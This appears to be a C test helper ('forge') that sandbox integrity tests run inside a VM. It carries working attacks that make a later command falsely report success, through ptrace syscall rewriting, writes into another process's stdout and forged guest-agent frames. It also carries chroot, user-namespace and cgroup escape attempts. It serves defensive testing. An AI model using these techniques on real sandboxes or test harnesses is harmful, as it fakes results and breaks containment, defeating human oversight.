/* forge: what a hostile process inside a sandbox does to make a later
 * command report success. Built statically by the exec-integrity tests and
 * copied into the sandbox.
 *
 *   forge ptrace PID     attach to PID, stop it at its next system call and
 *                        turn that call into exit_group(0)
 *   forge fd PID         write "PASS\n" into PID's stdout (/proc/PID/fd/1)
 *   forge signal PID     SIGKILL PID
 *   forge getfd PID      take PID's descriptors with pidfd_getfd; a virtio
 *                        port among them (the VM agent's channel to the host)
 *                        gets a forged STDOUT "PASS" frame and EXIT(0) frame
 *   forge getfd agent    the same on the VM's guest agent (comm lazyfs-agent)
 *   forge names DIR N    N hard links to one file in DIR (a directory too big to
 *                        list, made fast and without N inodes)
 *   forge zombie CODE    exit with CODE after a child of its own, in a new
 *                        session and holding none of its output, has
 *                        ptrace-attached to it: the exited command becomes a
 *                        zombie its parent (the VM agent) cannot reap while
 *                        that tracer lives (it sleeps 600 s)
 *   forge nest FLAGS PID make a Landlock domain of its own (scoping signals) with
 *                        landlock_restrict_self FLAGS, then kill(PID, 0); prints
 *                        "nest FLAGS: allowed" or the error
 *   forge hunt MARK LOG [MODES]
 *                        loop for 30 s: every process whose command line holds
 *                        MARK gets fd, ptrace and signal (or those MODES, e.g.
 *                        "fd,ptrace"); each attempt's result is appended to LOG
 *                        ("ptrace PID: Operation not permitted")
 *   forge escape DIR     try to leave the VM command's root and cgroup, one
 *                        line per way ("NAME ok ..." when it worked, "NAME
 *                        refused: ERROR" when not): chroot(DIR/sub) without a
 *                        chdir, chdir("..") 64 times, chroot(".") (chroot);
 *                        the same inside a new user namespace (userns);
 *                        /proc/1/root and /proc/2/root (a kernel thread's:
 *                        the initramfs root); a cgroup2 mount of its own
 *                        (mount); then, wherever it got, list /rw/upper
 *                        (upper) and write itself into /cgroup/cgroup.procs,
 *                        the guest's root cgroup (cgroup). Last line: its
 *                        cgroup now ("cgroup-now 0::/sandbox"). Exit 0 when
 *                        it reached /rw/upper or moved cgroups.
 *
 * Exit status of the single modes: 0 when the attack worked.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int forge_ptrace(pid_t pid) {
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) return errno;
    int st;
    if (waitpid(pid, &st, __WALL) != pid) return errno;
    for (int k = 0; k < 64; k++) {
        if (ptrace(PTRACE_SYSCALL, pid, 0, 0) != 0) return errno;
        if (waitpid(pid, &st, __WALL) != pid) return errno;
        if (!WIFSTOPPED(st)) return ESRCH;
        struct user_regs_struct r;
        if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return errno;
        if ((long long)r.rax == -ENOSYS) {   /* entering a system call */
            r.orig_rax = 231;                /* exit_group */
            r.rdi = 0;
            if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0) return errno;
            ptrace(PTRACE_DETACH, pid, 0, 0);
            return 0;
        }
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return EAGAIN;
}

static int forge_fd(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
    int fd = open(path, O_WRONLY);
    if (fd < 0) return errno;
    int r = write(fd, "PASS\n", 5) == 5 ? 0 : errno;
    close(fd);
    return r;
}

static int forged_frames(int fd) {
    /* the guest agent's framing: u32 length, u8 type, u24 request id; a
     * forger guesses the id (a counter) */
    unsigned char f[8 + 5 + 8 + 8] = {0};
    uint32_t five = 5, eight = 8;
    memcpy(f, &five, 4); f[4] = 33; f[5] = 1;            /* STDOUT */
    memcpy(f + 8, "PASS\n", 5);
    memcpy(f + 13, &eight, 4); f[17] = 35; f[18] = 1;    /* EXIT: code 0, flags 0 */
    return write(fd, f, sizeof f) == (ssize_t)sizeof f ? 0 : errno;
}

static pid_t agent_pid(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    pid_t found = 0;
    while (d && (e = readdir(d)) && !found) {
        char path[300], comm[32] = {0};
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, comm, sizeof comm - 1);
        close(fd);
        if (n > 0 && strncmp(comm, "lazyfs-agent", 12) == 0) found = atoi(e->d_name);
    }
    if (d) closedir(d);
    return found;
}

static int forge_getfd(pid_t pid) {
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) return errno;
    int first = 0, took = 0;
    for (int k = 0; k < 64; k++) {
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, k, 0);
        if (fd < 0) {
            if (errno != EBADF && !first) first = errno;
            continue;
        }
        took = 1;
        char link[128] = {0}, path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (readlink(path, link, sizeof link - 1) > 0 && strstr(link, "vport"))
            forged_frames(fd);
        close(fd);
    }
    close(pidfd);
    return took ? 0 : (first ? first : EBADF);
}

static int forge_signal(pid_t pid) {
    return kill(pid, SIGKILL) == 0 ? 0 : errno;
}

static int holds(pid_t pid, const char *mark) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    for (ssize_t k = 0; k < n; k++) if (!buf[k]) buf[k] = ' ';
    buf[n] = 0;
    return strstr(buf, mark) != NULL && strstr(buf, "forge") == NULL;
}

static void note(const char *log, const char *what, pid_t pid, int err) {
    FILE *f = fopen(log, "a");
    if (!f) return;
    fprintf(f, "%s %d: %s\n", what, pid, err ? strerror(err) : "done");
    fclose(f);
}

static int hunt(const char *mark, const char *log, const char *modes) {
    time_t end = time(NULL) + 30;
    note(log, "ready", getpid(), 0);
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid() || !holds(pid, mark)) continue;
            if (strstr(modes, "fd")) note(log, "fd", pid, forge_fd(pid));
            if (strstr(modes, "ptrace")) note(log, "ptrace", pid, forge_ptrace(pid));
            if (strstr(modes, "signal")) note(log, "signal", pid, forge_signal(pid));
        }
        if (d) closedir(d);
        usleep(2000);
    }
    return 0;
}

static int zombie(int code) {
    int ready[2];
    if (pipe(ready) != 0) return 1;
    pid_t leader = getpid();
    prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);  /* Yama's ptrace_scope 1 */
    pid_t tracer = fork();
    if (tracer < 0) return 1;
    if (tracer == 0) {
        setsid();
        int null = open("/dev/null", O_RDWR);
        dup2(null, 0); dup2(null, 1); dup2(null, 2);
        close(ready[0]);
        char ok = ptrace(PTRACE_SEIZE, leader, 0, 0) == 0 ? 'y' : 'n';
        if (write(ready[1], &ok, 1) != 1) _exit(1);
        close(ready[1]);
        sleep(600);
        _exit(0);
    }
    close(ready[1]);
    char ok = 0;
    if (read(ready[0], &ok, 1) != 1 || ok != 'y') {
        fprintf(stderr, "forge zombie: the child could not attach\n");
        return 1;
    }
    return code;
}

static int names(const char *dir, long n) {
    char path[4096];
    snprintf(path, sizeof path, "%s/0", dir);
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    if (fd < 0) return errno;
    close(fd);
    for (long k = 1; k < n; k++) {
        char link_path[4096];
        snprintf(link_path, sizeof link_path, "%s/%ld", dir, k);
        if (link(path, link_path) != 0 && errno != EEXIST) return errno;
    }
    return 0;
}

/* a Landlock domain of its own that scopes signals, made with `flags`
 * (landlock_restrict_self's logging flags), then kill(pid, 0): 0 if the
 * signal was allowed, else its errno */
static int nest(unsigned long flags, pid_t pid) {
    uint64_t attr[3] = {1ULL << 11, 0, 2};   /* handled: make_block; scoped: signal */
    int fd = (int)syscall(444, attr, sizeof attr, 0UL);
    if (fd < 0) return errno;
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) return errno;
    if (syscall(446, fd, flags) != 0) return errno;
    close(fd);
    return kill(pid, 0) == 0 ? 0 : errno;
}

/* ---- escape ------------------------------------------------------------ */

static int report(const char *name, int rc) {
    if (rc == 0) printf("%s ok\n", name);
    else printf("%s refused: %s\n", name, strerror(errno));
    fflush(stdout);
    return rc;
}

/* chroot(dir) without a chdir, then up to the top, then chroot(".") */
static int break_out(const char *dir) {
    if (chroot(dir) != 0) return -1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) return -1;
    return chroot(".");
}

/* list dir: 0 when it could be opened (its entries printed) */
static int list(const char *name, const char *dir) {
    DIR *d = opendir(dir);
    if (!d) return report(name, -1);
    printf("%s ok:", name);
    struct dirent *e;
    while ((e = readdir(d)) != NULL) printf(" %s", e->d_name);
    printf("\n");
    fflush(stdout);
    closedir(d);
    return 0;
}

static int move_cgroup(const char *procs) {
    int fd = open(procs, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return report("cgroup", -1);
    int rc = write(fd, "0", 1) == 1 ? 0 : -1;
    int e = errno;
    close(fd);
    errno = e;
    return report("cgroup", rc);
}

static int escape(const char *dir) {
    char sub[4096], cg[4096];
    snprintf(sub, sizeof sub, "%s/sub", dir);
    snprintf(cg, sizeof cg, "%s/cg", dir);
    mkdir(sub, 0755);
    mkdir(cg, 0755);
    int self = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
    char before[256] = "", now[256] = "";
    ssize_t n = self >= 0 ? pread(self, before, sizeof before - 1, 0) : -1;
    if (n > 0) before[n] = 0;
    int escaped = 0;
    /* through /proc: the agent's root (PID 1) and a kernel thread's */
    if (list("proc1-upper", "/proc/1/root/rw/upper") == 0) escaped = 1;
    if (list("proc2-upper", "/proc/2/root/rw/upper") == 0) escaped = 1;
    /* a cgroup2 mount of its own */
    if (report("mount", mount("cgroup2", cg, "cgroup2", 0, NULL)) == 0) {
        char procs[4200];
        snprintf(procs, sizeof procs, "%s/cgroup.procs", cg);
        if (move_cgroup(procs) == 0) escaped = 1;
        umount(cg);
    }
    /* a user namespace gives back every capability inside it, CAP_SYS_CHROOT too */
    pid_t pid = fork();
    if (pid == 0) {
        if (report("userns", unshare(CLONE_NEWUSER)) != 0) _exit(1);
        if (report("userns-chroot", break_out(sub)) != 0) _exit(1);
        _exit(list("userns-upper", "/rw/upper") == 0 ? 0 : 1);
    }
    int st;
    if (pid > 0 && waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 0)
        escaped = 1;
    /* the chroot escape itself */
    report("chroot", break_out(sub));
    if (list("upper", "/rw/upper") == 0) escaped = 1;
    if (move_cgroup("/cgroup/cgroup.procs") == 0) escaped = 1;
    n = self >= 0 ? pread(self, now, sizeof now - 1, 0) : -1;
    if (n > 0) now[n] = 0;
    if (strcmp(before, now) != 0) escaped = 1;
    printf("cgroup-now %s", now[0] ? now : "?\n");
    return escaped ? 0 : 1;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "escape") == 0)
        return escape(argv[2]);
    if (argc == 4 && strcmp(argv[1], "nest") == 0) {
        int e = nest(strtoul(argv[2], NULL, 0), atoi(argv[3]));
        printf("nest %s: %s\n", argv[2], e ? strerror(e) : "allowed");
        return e ? 1 : 0;
    }
    if (argc == 4 && strcmp(argv[1], "names") == 0) {
        int e = names(argv[2], atol(argv[3]));
        if (e) fprintf(stderr, "forge names: %s\n", strerror(e));
        return e ? 1 : 0;
    }
    if (argc == 3 && strcmp(argv[1], "zombie") == 0)
        return zombie(atoi(argv[2]));
    if ((argc == 4 || argc == 5) && strcmp(argv[1], "hunt") == 0)
        return hunt(argv[2], argv[3], argc == 5 ? argv[4] : "fd,ptrace,signal");
    if (argc != 3) {
        fprintf(stderr, "usage: forge ptrace|fd|signal|getfd PID | getfd agent | hunt MARK LOG\n");
        return 2;
    }
    pid_t pid = strcmp(argv[2], "agent") == 0 ? agent_pid() : atoi(argv[2]);
    if (pid <= 0) {
        fprintf(stderr, "forge: no such process %s\n", argv[2]);
        return 2;
    }
    int e = strcmp(argv[1], "getfd") == 0 ? forge_getfd(pid)
          : strcmp(argv[1], "ptrace") == 0 ? forge_ptrace(pid)
          : strcmp(argv[1], "fd") == 0 ? forge_fd(pid)
          : strcmp(argv[1], "signal") == 0 ? forge_signal(pid) : EINVAL;
    if (e) fprintf(stderr, "forge %s %d: %s\n", argv[1], pid, strerror(e));
    return e ? 1 : 0;
}
